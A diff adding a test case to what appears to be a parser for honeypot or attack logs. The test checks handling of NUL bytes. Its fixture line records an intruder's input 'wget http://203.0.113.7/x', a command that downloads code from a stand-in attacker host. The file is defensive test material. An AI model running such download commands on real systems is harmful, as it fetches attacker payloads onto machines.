@@ -180,6 +180,22 @@ describe('a file whose format nobody named', () => {
     ]);
   });
 
+  it('reads to the end of a line that has a NUL in it, and over NULs before one', async () => {
+    const line =
+      "2017-03-31 00:02:21,043 - __main__ - INFO - RECEIVED INPUT 203.0.113.9 : ['wget\0 http://203.0.113.7/x']";
+    for (const size of [1, 7, 1000]) {
+      const entries = await entriesOf(
+        `${'\0'.repeat(40)}${line}\n\0\0${line.replace('21,043', '22,043')}\n`,
+        size,
+      );
+      assert.deepEqual(told(entries), ['lines command.run', 'lines command.run']);
+      for (const entry of entries) {
+        assert.ok(entry.status === 'draft');
+        assert.match(entry.draft.payload, /wget.*203\.0\.113\.7\/x/s);
+      }
+    }
+  });
+
   it('says of what is no log that it is none, line by line, and never throws', async () => {
     assert.deepEqual(
       told(await entriesOf('nothing\nof this\n')),
